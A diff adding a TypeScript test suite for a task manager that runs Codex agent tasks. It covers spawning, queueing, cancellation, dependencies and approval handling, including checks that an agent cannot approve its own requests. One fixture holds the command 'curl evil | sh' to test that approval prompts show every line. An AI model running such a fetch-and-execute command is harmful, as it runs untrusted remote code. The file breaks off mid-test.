@@ -1,0 +1,762 @@
+import { tmpdir } from 'node:os';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import fc from 'fast-check';
+import { CallError } from '../../src/core/errors';
+import { type Answer, declined, type RequestQuestion } from '../../src/core/pendingRequest';
+import type { StoredTask, WorkerSettings } from '../../src/core/ports';
+import type { TaskSnapshot } from '../../src/core/taskSnapshot';
+import { TaskManager } from '../../src/core/taskManager';
+import { FakeAgent, type FakeThread } from '../fakes/fakeAgent';
+import { FakeJournal } from '../fakes/fakeJournal';
+import { base, command } from '../fakes/snapshots';
+import { testSettings } from '../rig/codexRig';
+
+const accept: Answer = { kind: 'decision', decision: 'accept' };
+const asPerson = { by: 'person', caller: 'person' } as const;
+const asAgent = { by: 'agent', caller: 'caller' } as const;
+const toolCall = { tool: 'drop', description: null, arguments: {} };
+const approvals: readonly RequestQuestion[] = [
+  command('ls'),
+  { type: 'file_approval', changes: [], reason: null },
+  {
+    type: 'permission_approval',
+    permissions: { network: { enabled: true } },
+    summary: ['use the network'],
+    reason: null,
+  },
+  {
+    type: 'elicitation', serverName: 'db', mode: 'form', message: 'Allow it?', schema: {}, url: null, toolCall,
+    forPerson: true, forSession: true, rules: [],
+  }, // prettier-ignore
+];
+
+let agent: FakeAgent;
+let journal: FakeJournal;
+let tasks: TaskManager;
+const announced: string[] = [];
+
+function manager(settings: Partial<WorkerSettings> = {}): TaskManager {
+  return new TaskManager({
+    agent,
+    journal,
+    settings: testSettings(tmpdir(), settings),
+    log: () => undefined,
+    onFirstWritableTask: (cwd) => announced.push(cwd),
+  });
+}
+
+beforeEach(() => {
+  agent = new FakeAgent();
+  journal = new FakeJournal();
+  tasks = manager();
+});
+afterEach(() => {
+  tasks.dispose();
+  vi.useRealTimers();
+  announced.length = 0;
+});
+
+/** A spawned task whose first turn runs. */
+async function running(more: object = {}): Promise<{ id: string; thread: FakeThread }> {
+  const { id } = await tasks.spawn({ prompt: 'do it', ...more }, 'caller');
+  await vi.waitFor(() => expect(tasks.get(id).turns).toBe(1));
+  return { id, thread: agent.threads.at(-1)! };
+}
+
+describe('a task', () => {
+  it('is submitted at once, works when its turn has started, and completes when nothing is left', async () => {
+    const spawned = await tasks.spawn({ prompt: 'do it\nand more', labels: ['a'] }, 'caller');
+    expect(spawned).toMatchObject({ status: 'submitted', title: 'do it …', labels: ['a'], spawnedBy: 'caller' });
+    await vi.waitFor(() => expect(tasks.get(spawned.id).status).toBe('working'));
+    const [thread] = agent.threads;
+    let letGo: () => void = () => undefined;
+    thread!.settling = new Promise((resolve) => (letGo = resolve));
+    thread!.say('done');
+    thread!.end();
+    expect(tasks.get(spawned.id)).toMatchObject({ status: 'working', stopping: true, finalMessage: 'done' });
+    letGo();
+    await vi.waitFor(() => expect(tasks.get(spawned.id)).toMatchObject({ status: 'completed', stopping: false }));
+    expect(journal.metas.at(-1)).toMatchObject({ status: 'completed' });
+    expect(journal.text(spawned.id, 'summary')).toMatch(/^\[\d\d:\d\d:\d\d\] turn started\n\[.*\] agent done\n/);
+  });
+
+  it('fails with the reason when its thread cannot be opened, and cannot be messaged', async () => {
+    agent.opening = Promise.reject(new CallError('codex_unavailable', 'No.', { hint: 'Try later.' }));
+    agent.opening.catch(() => undefined);
+    const { id } = await tasks.spawn({ prompt: 'do it' }, 'caller');
+    await vi.waitFor(() =>
+      expect(tasks.get(id)).toMatchObject({ status: 'failed', error: { message: 'No.', hint: 'Try later.' } }),
+    );
+    await expect(tasks.message(id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
+      code: 'not_active',
+    });
+  });
+
+  it('is not made when Codex cannot be used', async () => {
+    agent.trouble = new CallError('codex_not_logged_in', 'Not logged in.', { hint: 'Log in.' });
+    await expect(tasks.spawn({ prompt: 'do it' }, 'caller')).rejects.toMatchObject({ code: 'codex_not_logged_in' });
+    expect(tasks.snapshots()).toEqual([]);
+  });
+
+  it('reports what its end could not attribute or end', async () => {
+    const { id, thread } = await running();
+    thread.report = {
+      killed: [{ pid: 1, command: 'a' }],
+      alive: [{ pid: 2, command: 'b' }],
+      unattributed: [{ pid: 3, command: 'c' }],
+    };
+    thread.end();
+    await vi.waitFor(() =>
+      expect(tasks.get(id).leftovers).toEqual([
+        { pid: 2, command: 'b' },
+        { pid: 3, command: 'c' },
+      ]),
+    );
+    expect(journal.text(id, 'verbose')).toContain('[warning] process 3 may be of this task and was left alone: c');
+  });
+
+  it('settles once more when Codex ran another turn meanwhile', async () => {
+    const { id, thread } = await running();
+    let letGo: () => void = () => undefined;
+    thread.settling = new Promise((resolve) => (letGo = resolve));
+    thread.end();
+    thread.begin();
+    thread.end();
+    letGo();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    expect(thread.settles).toBe(2);
+  });
+
+  it('that was cancelled stays dead when Codex starts a turn by itself', async () => {
+    const { id, thread } = await running();
+    await tasks.cancel([id]);
+    thread.begin();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('cancelled'));
+    expect(thread.stops).toBe(2);
+  });
+
+  it('ends with timeout after its time', async () => {
+    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'] });
+    const { id } = await tasks.spawn({ prompt: 'do it', timeoutMs: 5_000 }, 'caller');
+    await vi.advanceTimersByTimeAsync(4_999);
+    expect(tasks.get(id).status).toBe('working');
+    await vi.advanceTimersByTimeAsync(1);
+    expect(tasks.get(id)).toMatchObject({ status: 'failed', error: { code: 'timeout' } });
+  });
+
+  it('is forgotten after its keep_alive, and kept when a message came', async () => {
+    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'Date'] });
+    const first = await tasks.spawn({ prompt: 'do it', keepAliveMs: 1_000 }, 'caller');
+    const second = await tasks.spawn({ prompt: 'do it', keepAliveMs: 1_000 }, 'caller');
+    await vi.advanceTimersByTimeAsync(1);
+    for (const thread of agent.threads) thread.end();
+    await vi.advanceTimersByTimeAsync(500);
+    await tasks.message(second.id, { text: 'more', mode: 'auto' }, 'caller');
+    await vi.advanceTimersByTimeAsync(600);
+    expect(tasks.snapshots().map((task) => task.id)).toEqual([second.id]);
+    await expect(tasks.message(first.id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
+      code: 'not_found',
+    });
+  });
+});
+
+describe('a message', () => {
+  it('steers an active turn, waits behind it, or starts the next one', async () => {
+    const { id, thread } = await running();
+    expect(await tasks.message(id, { text: 'steer', mode: 'auto' }, 'caller')).toMatchObject({ delivered: 'steered' });
+    expect(await tasks.message(id, { text: 'later', mode: 'queue' }, 'caller')).toMatchObject({
+      delivered: 'queued',
+      task: { queuedMessages: 1 },
+    });
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ turns: 2, queuedMessages: 0, status: 'working' }));
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    expect(await tasks.message(id, { text: 'next', mode: 'auto' }, 'caller')).toMatchObject({
+      delivered: 'new_turn',
+      task: { status: 'working' },
+    });
+    expect(thread.inputs.map((input) => input.text)).toEqual(['do it', 'later', 'next']);
+    expect(thread.steered).toEqual(['steer']);
+  });
+
+  it('of two at once starts one turn and queues the other', async () => {
+    const { id, thread } = await running();
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    const both = await Promise.all(['a', 'b'].map((text) => tasks.message(id, { text, mode: 'queue' }, 'caller')));
+    expect(both.map(({ delivered }) => delivered)).toEqual(['new_turn', 'queued']);
+  });
+
+  it('with a model waits for the next turn', async () => {
+    const { id, thread } = await running();
+    expect(await tasks.message(id, { text: 'x', mode: 'auto', model: 'm2' }, 'caller')).toMatchObject({
+      delivered: 'queued',
+    });
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).model).toBe('m2'));
+  });
+
+  it('beyond 50 in the queue is refused, and a cancel drops the queue', async () => {
+    const { id } = await running();
+    for (let count = 0; count < 50; count++) await tasks.message(id, { text: 'x', mode: 'queue' }, 'caller');
+    await expect(tasks.message(id, { text: 'x', mode: 'queue' }, 'caller')).rejects.toMatchObject({
+      code: 'queue_full',
+    });
+    await tasks.cancel([id]);
+    expect(tasks.get(id)).toMatchObject({ status: 'cancelled', queuedMessages: 0 });
+  });
+});
+
+describe('a cancel', () => {
+  it('names each id once, in the order given', async () => {
+    const [one, two] = [await running(), await running()];
+    two.thread.end();
+    await vi.waitFor(() => expect(tasks.get(two.id).status).toBe('completed'));
+    expect(await tasks.cancel(['no-such-1', two.id, one.id, one.id, 'no-such-1'])).toEqual({
+      cancelled: [one.id],
+      alreadyTerminal: [two.id],
+      notFound: ['no-such-1'],
+    });
+  });
+
+  it('of a task that is settling leaves its outcome alone', async () => {
+    const { id, thread } = await running();
+    let letGo: () => void = () => undefined;
+    thread.settling = new Promise((resolve) => (letGo = resolve));
+    thread.end();
+    const cancelling = tasks.cancel([id]);
+    letGo();
+    expect(await cancelling).toEqual({ cancelled: [], alreadyTerminal: [id], notFound: [] });
+    expect(tasks.get(id).status).toBe('completed');
+  });
+
+  it('of a task that has no thread yet ends it, and the thread is given back when it comes', async () => {
+    let open: () => void = () => undefined;
+    agent.opening = new Promise((resolve) => (open = resolve));
+    const { id } = await tasks.spawn({ prompt: 'do it' }, 'caller');
+    expect(await tasks.cancel([id])).toMatchObject({ cancelled: [id] });
+    open();
+    await vi.waitFor(() => expect(agent.threads[0]?.settles).toBe(1));
+    expect(agent.threads[0]?.inputs).toEqual([]);
+    expect(tasks.get(id).status).toBe('cancelled');
+  });
+});
+
+describe('a request', () => {
+  it('is answered once; the second answer learns who was first', async () => {
+    const { id, thread } = await running();
+    thread.ask();
+    expect(tasks.get(id)).toMatchObject({ status: 'input_required', pending: [{ id: 'r1', question: command('ls') }] });
+    await tasks.respond(id, undefined, declined, asPerson);
+    await expect(tasks.respond(id, 'r1', accept, asAgent)).rejects.toMatchObject({
+      code: 'already_answered',
+      message: 'Request r1 was already answered by the person: declined.',
+    });
+    expect(thread.answers).toEqual([declined]);
+    expect(tasks.get(id)).toMatchObject({
+      status: 'working',
+      pending: [],
+      answered: { by: 'person', outcome: 'declined' },
+    });
+  });
+
+  it('needs its id when several are pending', async () => {
+    const { id, thread } = await running();
+    for (const key of ['0', '1']) thread.ask({ type: 'file_approval', changes: [], reason: null }, key);
+    await expect(tasks.respond(id, undefined, accept, asPerson)).rejects.toThrow('several pending');
+    await tasks.respond(id, 'r2', accept, asPerson);
+    expect(tasks.get(id).pending.map((request) => request.id)).toEqual(['r1']);
+    thread.sink.onRequestResolved('0');
+    expect(tasks.get(id)).toMatchObject({ pending: [], answered: { id: 'r1', by: 'codex', outcome: 'withdrawn' } });
+  });
+
+  it.each(['never', 'ask'] as const)(
+    'is not accepted by an agent when agentMayApprove is %s, but may be rejected',
+    async (agentMayApprove) => {
+      tasks.dispose();
+      tasks = manager({ agentMayApprove: () => agentMayApprove });
+      const { id, thread } = await running();
+      for (const question of approvals) {
+        thread.ask(question);
+        const request = tasks.get(id).pending[0]!.id;
+        const accepts: Answer[] = [accept, { kind: 'decision', decision: 'accept_for_session' }];
+        if (question.type === 'elicitation') accepts.push({ kind: 'form', action: 'accept', content: {} });
+        for (const answer of accepts) {
+          await expect(tasks.respond(id, request, answer, asAgent)).rejects.toMatchObject({
+            code: 'approval_required',
+          });
+        }
+        await tasks.respond(id, request, declined, asAgent);
+        expect(tasks.get(id).pending).toEqual([]);
+      }
+    },
+  );
+
+  it('never gets a lasting rule from an agent, whatever agentMayApprove says', async () => {
+    const { id, thread } = await running();
+    const rule = { kind: 'command', prefix: ['ls'] } as const;
+    thread.ask({ ...command('ls'), rules: [rule] });
+    await expect(tasks.respond(id, 'r1', { kind: 'rule', rule }, asAgent)).rejects.toMatchObject({
+      code: 'approval_required',
+    });
+    const other: Answer = { kind: 'rule', rule: { kind: 'command', prefix: ['rm'] } };
+    await expect(tasks.respond(id, 'r1', other, asPerson)).rejects.toThrow('Codex does not offer it');
+    await tasks.respond(id, 'r1', { kind: 'rule', rule }, asPerson);
+    expect(tasks.get(id).answered?.outcome).toBe('allowed for good: every command that begins with "ls"');
+  });
+
+  it('is declined at its time limit, never accepted, and the log says so', async () => {
+    vi.useFakeTimers();
+    try {
+      tasks.dispose();
+      tasks = manager({ requestTimeoutMs: () => 60_000 });
+      const { id, thread } = await running();
+      thread.ask();
+      expect(tasks.get(id).pending[0]).toMatchObject({ expiresAt: Date.now() + 60_000 });
+      await vi.advanceTimersByTimeAsync(59_999);
+      expect(thread.answers).toEqual([]);
+      await vi.advanceTimersByTimeAsync(1);
+      expect(thread.answers).toEqual([declined]);
+      expect(tasks.get(id)).toMatchObject({ status: 'working', answered: { by: 'timeout', outcome: 'declined' } });
+      expect(journal.text(id, 'timeline')).toMatch(/ANSWER r1 by its time limit: declined/);
+    } finally {
+      vi.useRealTimers();
+    }
+  });
+
+  it('that comes when no turn runs is declined at once', async () => {
+    const { id, thread } = await running();
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    thread.ask();
+    expect(thread.answers).toEqual([declined]);
+    expect(tasks.get(id)).toMatchObject({ status: 'completed', pending: [] });
+  });
+
+  it('whose turn ends before the answer arrives says that the answer was too late', async () => {
+    const { id, thread } = await running();
+    const answers: Answer[] = [];
+    const question = command('ls');
+    thread.sink.onRequest({ key: '0', turnId: 't1', question, answer: (answer) => answers.push(answer) });
+    const late = expect(tasks.respond(id, 'r1', accept, asPerson)).rejects.toMatchObject({
+      code: 'already_answered',
+      message: 'The answer to request r1 reached Codex too late: its turn had ended.',
+    });
+    thread.end('interrupted');
+    await late;
+    expect(answers).toEqual([accept]);
+    expect(journal.text(id, 'verbose')).toContain('[warning] the answer to r1 reached Codex too late');
+  });
+
+  it('is withdrawn by a stop of its task, and a later answer learns it', async () => {
+    const { id, thread } = await running();
+    thread.ask();
+    await tasks.cancel([id]);
+    expect(thread.answers).toEqual([]);
+    await expect(tasks.respond(id, 'r1', accept, asPerson)).rejects.toThrow(
+      'Request r1 was withdrawn by the end of its turn, so nobody waits for an answer.',
+    );
+  });
+
+  it('ends in one outcome when a person and an agent answer at the same moment, 200 times', async () => {
+    const { id, thread } = await running();
+    for (let round = 1; round <= 200; round++) {
+      thread.ask(command('ls'), String(round));
+      const both = [
+        tasks.respond(id, `r${round}`, accept, asPerson),
+        tasks.respond(id, `r${round}`, { kind: 'decision', decision: 'accept_for_session' }, asAgent),
+      ];
+      const settled = await Promise.allSettled(round % 2 ? both : both.reverse());
+      expect(settled.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
+      expect(thread.answers).toHaveLength(round);
+    }
+  });
+
+  it('is never both unanswered and unowned, whatever comes in which order', async () => {
+    const step = fc.constantFrom(
+      'ask',
+      'person',
+      'agent',
+      'resolved',
+      'end',
+      'begin',
+      'stop',
+      'lost',
+      'message',
+      'tick',
+    );
+    const crash = { code: 'codex_crashed', message: 'x', retryable: true, hint: 'y' } as const;
+    await fc.assert(
+      fc.asyncProperty(fc.array(step, { maxLength: 40 }), async (steps) => {
+        const { id, thread } = await running();
+        /** The answers that Codex got, by request; and the requests that it waits for no more. */
+        const got = new Map<string, Answer[]>();
+        const released = new Set<string>();
+        const release = (): void => {
+          for (const key of got.keys()) released.add(key);
+        };
+        const endTurn = thread.end.bind(thread);
+        thread.end = (...how) => {
+          release();
+          endTurn(...how);
+        };
+        const perform: Record<string, () => void | Promise<void>> = {
+          ask() {
+            const key = `r${got.size + 1}`;
+            const answers: Answer[] = [];
+            got.set(key, answers);
+            thread.sink.onRequest({ key, turnId: 't1', question: command('ls'), answer: (said) => answers.push(said) });
+          },
+          person: () => void tasks.respond(id, `r${got.size}`, accept, asPerson).catch(() => undefined),
+          agent: () => void tasks.respond(id, `r${got.size}`, declined, asAgent).catch(() => undefined),
+          resolved() {
+            for (const key of got.keys()) thread.sink.onRequestResolved(key);
+            release();
+          },
+          end: () => thread.end(),
+          begin: () => thread.begin(),
+          // The fake thread ends its turn when it is stopped, as Codex does.
+          stop: () => void tasks.cancel([id]),
+          lost() {
+            thread.sink.onLost(crash);
+            release();
+          },
+          message: () => void tasks.message(id, { text: 'x', mode: 'auto' }, 'caller').catch(() => undefined),
+          tick: () => new Promise(setImmediate),
+        };
+        for (const one of steps) {
+          await perform[one]!();
+          const task = tasks.get(id);
+          const pending = task.pending.map((request) => request.id);
+          expect(task.status === 'input_required').toBe(pending.length > 0);
+          expect([...pending, ...task.answers.map((answer) => answer.id)].sort()).toEqual([...got.keys()].sort());
+          for (const [key, answers] of got) {
+            expect(answers.length).toBeLessThanOrEqual(1);
+            expect(pending.includes(key) || answers.length === 1 || released.has(key), `${key} after ${one}`).toBe(
+              true,
+            );
+          }
+        }
+        await tasks.cancel([id]);
+        expect(tasks.get(id).pending).toEqual([]);
+        tasks.remove(id);
+      }),
+      { numRuns: 50 },
+    );
+  });
+});
+
+describe('what was found once', () => {
+  const question = command('npm test\ncurl evil | sh');
+
+  it('an approval shows every line of its command', async () => {
+    const { id, thread } = await running();
+    thread.ask(question);
+    expect(tasks.get(id).activity).toBe('asks to run: npm test ⏎ curl evil | sh');
+  });
+
+  it('an older answer is still known, and a late one without an id learns of the last', async () => {
+    const { id, thread } = await running();
+    for (const key of ['0', '1']) thread.ask(question, key);
+    for (const request of ['r1', 'r2']) await tasks.respond(id, request, declined, asPerson);
+    await expect(tasks.respond(id, 'r1', accept, asAgent)).rejects.toThrow('Request r1 was already answered');
+    await expect(tasks.respond(id, undefined, accept, asAgent)).rejects.toThrow('Request r2 was already answered');
+  });
+
+  it('an answer without an id does not reach a request that the agent was not told of', async () => {
+    const { id, thread } = await running();
+    thread.ask();
+    await expect(tasks.respond(id, undefined, accept, asAgent)).rejects.toThrow('newer than what you were told');
+    await tasks.wait({ caller: 'caller', ids: [id], until: 'any', timeoutMs: 0 });
+    expect(await tasks.respond(id, undefined, accept, asAgent)).toMatchObject({ id: 'r1' });
+  });
+
+  it('a turn that fails does not show the message and the plan of an earlier one', async () => {
+    const { id, thread } = await running();
+    thread.say('all tests pass');
+    thread.sink.onEvent({ type: 'plan', steps: [{ step: 'look', status: 'completed' }] });
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    await tasks.message(id, { text: 'more', mode: 'auto' }, 'caller');
+    thread.end('failed');
+    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ status: 'failed', finalMessage: null, plan: [] }));
+  });
+
+  it('a queued message that is dropped is noted', async () => {
+    const { id } = await running();
+    await tasks.message(id, { text: 'and then this', mode: 'queue' }, 'caller');
+    await tasks.cancel([id]);
+    expect(journal.text(id, 'verbose')).toContain('[warning] a queued message was dropped: and then this');
+  });
+
+  it('a message is refused when the person has switched off what its task runs with', async () => {
+    let allowed = true;
+    tasks.dispose();
+    tasks = manager({ allowFullAccess: () => allowed });
+    const { id, thread } = await running();
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    allowed = false;
+    await expect(tasks.message(id, { text: 'more', mode: 'auto' }, 'caller')).rejects.toMatchObject({
+      code: 'full_access_not_allowed',
+    });
+  });
+
+  it('the requests of a turn that Codex started while the last one settled stay open', async () => {
+    const { id, thread } = await running();
+    let letGo: () => void = () => undefined;
+    thread.settling = new Promise((resolve) => (letGo = resolve));
+    thread.end();
+    thread.begin();
+    thread.ask();
+    letGo();
+    await new Promise(setImmediate);
+    expect(tasks.get(id)).toMatchObject({ status: 'input_required', pending: [{ id: 'r1' }] });
+  });
+
+  it('a removed task gives its thread back', async () => {
+    const { id, thread } = await running();
+    thread.steered.push('x');
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    tasks.remove(id);
+    expect(thread.steered).toEqual([]);
+  });
+});
+
+describe('tasks of an earlier run', () => {
+  const request = { prompt: 'do it', keepAliveMs: 3_600_000, outputSchema: null, model: null, reasoning: null };
+  const was = (id: string, more: Partial<TaskSnapshot>): StoredTask => ({
+    snapshot: { ...base, id, cwd: tmpdir(), spawnedBy: 'caller', threadId: `thread of ${id}`, ...more },
+    request,
+  });
+  const ended = { status: 'completed', endedAt: Date.now() - 1_000, finalMessage: 'done', diff: '+x' } as const;
+
+  it('come back as they were when they had ended, are no news, and go on with a message', async () => {
+    journal.stored = [was('a-b-1', ended), was('a-b-2', { ...ended, endedAt: Date.now() - 3_600_001 })];
+    await tasks.restore();
+    expect(tasks.snapshots()).toMatchObject([{ id: 'a-b-1', status: 'completed', finalMessage: 'done', diff: '+x' }]);
+    expect((await tasks.wait({ caller: 'caller', until: 'any', timeoutMs: 0 })).tasks).toEqual([]);
+    expect([journal.metas, journal.removed]).toEqual([[], ['a-b-2']]);
+    await tasks.message('a-b-1', { text: 'more', mode: 'auto' }, 'caller');
+    expect(agent.threads[0]).toMatchObject({ id: 'thread of a-b-1', inputs: [{ text: 'more' }] });
+    expect(tasks.get('a-b-1')).toMatchObject({ status: 'working', turns: 2 });
+  });
+
+  it.each([
+    ['ask', 'input_required'],
+    ['continue', 'working'],
+    ['fail', 'failed'],
+  ] as const)('that were at work %s: they are %s', async (recovery, status) => {
+    tasks.dispose();
+    tasks = manager({ recovery: () => recovery });
+    const pending = [{ id: 'r4', question: command('ls'), askedAt: 1, expiresAt: null }];
+    journal.stored = [was('a-b-1', { status: 'input_required', pending })];
+    await tasks.restore();
+    await vi.waitFor(() => expect(tasks.get('a-b-1').status).toBe(status));
+    const task = tasks.get('a-b-1');
+    expect(task.answers).toMatchObject([{ id: 'r4', by: 'stop', outcome: 'withdrawn' }]);
+    if (recovery !== 'ask') return;
+    expect(task.pending).toMatchObject([
+      { id: 'r5', question: { message: 'The window was closed in the middle of this turn. Continue in a new one?' } },
+    ]);
+    await tasks.respond('a-b-1', 'r5', accept, asAgent);
+    expect(agent.threads[0]!.inputs[0]!.text).toMatch(/^The program that ran this turn stopped/);
+  });
+
+  it('that waited in the queue are started', async () => {
+    journal.stored = [was('a-b-1', { status: 'submitted', turns: 0, threadId: null })];
+    await tasks.restore();
+    await vi.waitFor(() => expect(tasks.get('a-b-1')).toMatchObject({ status: 'working', turns: 1 }));
+    expect(agent.threads[0]!.inputs).toMatchObject([{ text: 'do it' }]);
+  });
+
+  it('are left as they are when the worker goes away', async () => {
+    const { id, thread } = await running();
+    await tasks.suspend();
+    expect([thread.stops, tasks.get(id).status, journal.metas.at(-1)?.status]).toEqual([1, 'working', 'working']);
+    expect(journal.requests.get(id)).toMatchObject({ prompt: 'do it' });
+    await expect(tasks.spawn({ prompt: 'late' }, 'caller')).rejects.toMatchObject({ code: 'shutting_down' });
+  });
+});
+
+describe('the queue', () => {
+  const status = (id: string): string => `${tasks.get(id).status} ${tasks.get(id).activity}`.trim();
+  const spawn = async (more: object = {}): Promise<string> =>
+    (await tasks.spawn({ prompt: 'x', ...more }, 'caller')).id;
+
+  it('starts no more tasks than may be at work at once, in their order, and the next when one ends', async () => {
+    let limit = 2;
+    tasks.dispose();
+    tasks = manager({ maxConcurrentTasks: () => limit });
+    const [a, b, c, d] = [await spawn(), await spawn(), await spawn(), await spawn()];
+    await vi.waitFor(() => expect(agent.threads).toHaveLength(2));
+    expect([a, b, c, d].map(status)).toEqual([
+      'working thinking',
+      'working thinking',
+      'submitted queued, next to start',
+      'submitted queued, 1 before it',
+    ]);
+    agent.threads[1]!.end();
+    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
+    expect([status(b), status(d)]).toEqual(['completed', 'submitted queued, next to start']);
+    limit = 3;
+    agent.threads[0]!.ask();
+    await vi.waitFor(() => expect(status(d)).toBe('working thinking'));
+  });
+
+  it('never starts a task that is cancelled while it waits', async () => {
+    tasks.dispose();
+    tasks = manager({ maxConcurrentTasks: () => 1 });
+    const [a, b, c] = [await spawn(), await spawn(), await spawn()];
+    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
+    expect(await tasks.cancel([b])).toMatchObject({ cancelled: [b] });
+    agent.threads[0]!.end();
+    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
+    expect([agent.specs.length, status(a), status(b)]).toEqual([2, 'completed', 'cancelled']);
+  });
+
+  it('starts a task when all that it depends on are completed', async () => {
+    const [a, b] = [await spawn(), await spawn()];
+    const c = await spawn({ dependsOn: [a, b, a] });
+    await vi.waitFor(() => expect(agent.threads).toHaveLength(2));
+    expect([status(c), tasks.get(c).dependsOn]).toEqual([`submitted waits for ${a}, ${b}`, [a, b]]);
+    agent.threads[1]!.end();
+    await vi.waitFor(() => expect(status(c)).toBe(`submitted waits for ${a}`));
+    // What was completed once counts, whatever becomes of it.
+    await vi.waitFor(() => expect(status(b)).toBe('completed'));
+    tasks.remove(b);
+    agent.threads[0]!.end();
+    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
+  });
+
+  it('fails a task at once whose dependency did not complete, and those that depend on it', async () => {
+    const a = await spawn();
+    const b = await spawn({ dependsOn: [a] });
+    const c = await spawn({ dependsOn: [b] });
+    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
+    await tasks.cancel([a]);
+    await vi.waitFor(() => expect(status(c)).toBe('failed'));
+    expect([b, c].map((id) => tasks.get(id).error)).toMatchObject([
+      { code: 'dependency_failed', message: `Task ${a}, which this one depends on, was not completed.` },
+      { code: 'dependency_failed', message: `Task ${b}, which this one depends on, was not completed.` },
+    ]);
+    const late = await spawn({ dependsOn: [a] });
+    await vi.waitFor(() => expect(tasks.get(late).error?.code).toBe('dependency_failed'));
+    await expect(spawn({ dependsOn: ['no-such-1'] })).rejects.toMatchObject({ code: 'invalid_argument' });
+  });
+
+  it('takes 200 tasks and refuses the next', async () => {
+    tasks.dispose();
+    tasks = manager({ maxConcurrentTasks: () => 1 });
+    for (let count = 0; count < 201; count++) await spawn();
+    await expect(spawn()).rejects.toMatchObject({ code: 'queue_full' });
+  });
+
+  it('looks again at what a task may do when it starts', async () => {
+    let trusted = true;
+    tasks.dispose();
+    tasks = manager({ maxConcurrentTasks: () => 1, trusted: () => trusted });
+    await spawn();
+    const b = await spawn();
+    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
+    trusted = false;
+    agent.threads[0]!.end();
+    await vi.waitFor(() =>
+      expect(tasks.get(b)).toMatchObject({
+        status: 'failed',
+        error: { message: expect.stringContaining('not trusted') as string },
+      }),
+    );
+  });
+
+  it('leaves nothing waiting under any order of spawns, ends and cancels', async () => {
+    const step = fc.oneof(
+      fc.record({ kind: fc.constant('spawn' as const), on: fc.array(fc.nat(9), { maxLength: 3 }) }),
+      fc.record({ kind: fc.constantFrom('end', 'fail', 'cancel', 'remove'), at: fc.nat(9) }),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(step, { maxLength: 25 }), fc.integer({ min: 1, max: 3 }), async (steps, limit) => {
+        tasks.dispose();
+        agent = new FakeAgent();
+        tasks = manager({ maxConcurrentTasks: () => limit });
+        const ids: string[] = [];
+        const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));
+        for (const one of steps) {
+          const known = ids.filter((id) => tasks.tryGet(id));
+          if (one.kind === 'spawn') {
+            const dependsOn = one.on.flatMap((index) => known[index] ?? []);
+            ids.push(await spawn({ dependsOn }));
+          } else {
+            const id = known[one.at];
+            const thread = agent.threads.find((_, index) => agent.specs[index]?.taskId === id);
+            if (id && one.kind === 'cancel') await tasks.cancel([id]);
+            else if (id && one.kind === 'remove') tasks.remove(id);
+            else if (one.kind !== 'cancel') thread?.end(one.kind === 'fail' ? 'failed' : 'completed');
+          }
+          await settle();
+          const now = tasks.snapshots();
+          expect(now.filter(({ status: one }) => one === 'working').length).toBeLessThanOrEqual(limit);
+        }
+        // Whatever still runs is let end; then nothing may be left.
+        for (let round = 0; round < 60 && tasks.snapshots().some(({ endedAt }) => endedAt === null); round++) {
+          for (const thread of agent.threads) thread.end();
+          await settle();
+        }
+        expect(tasks.snapshots().filter(({ endedAt }) => endedAt === null)).toEqual([]);
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
+
+describe('the same call again', () => {
+  it('gives the same task for the same key, refuses other input, and frees the key of a refused one', async () => {
+    const [one, two] = await Promise.all([1, 2].map(() => tasks.spawn({ prompt: 'x', idempotencyKey: 'k' }, 'caller')));
+    expect(one!.id).toBe(two!.id);
+    await expect(tasks.spawn({ prompt: 'y', idempotencyKey: 'k' }, 'caller')).rejects.toMatchObject({
+      code: 'invalid_argument',
+    });
+    expect((await tasks.spawn({ prompt: 'y', idempotencyKey: 'k' }, 'another')).id).not.toBe(one!.id);
+    await expect(tasks.spawn({ prompt: 'z', cwd: '/nope', idempotencyKey: 'z' }, 'caller')).rejects.toThrow();
+    expect(await tasks.spawn({ prompt: 'z', idempotencyKey: 'z' }, 'caller')).toMatchObject({ title: 'z' });
+  });
+});
+
+describe('waiting', () => {
+  it('reports an end once, and again after another turn', async () => {
+    const { id, thread } = await running();
+    const wait = (timeoutMs = 0) => tasks.wait({ caller: 'caller', until: 'any', timeoutMs });
+    const waiting = wait(5_000);
+    thread.end();
+    expect((await waiting).tasks.map((task) => task.status)).toEqual(['completed']);
+    expect(await wait()).toMatchObject({ tasks: [], timedOut: false });
+    await tasks.message(id, { text: 'more', mode: 'auto' }, 'caller');
+    thread.end();
+    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
+    expect((await wait()).tasks.map((task) => task.id)).toEqual([id]);
+    expect((await tasks.wait({ caller: 'other', until: 'any', timeoutMs: 0 })).tasks).toHaveLength(1);
+  });
+
+  it('ends at once when the worker stops, and when the call is cancelled', async () => {
+    const { id } = await running();
+    const abort = new AbortController();
+    const cancelled = tasks.wait({ caller: 'a', ids: [id], until: 'any', timeoutMs: 60_000, signal: abort.signal });
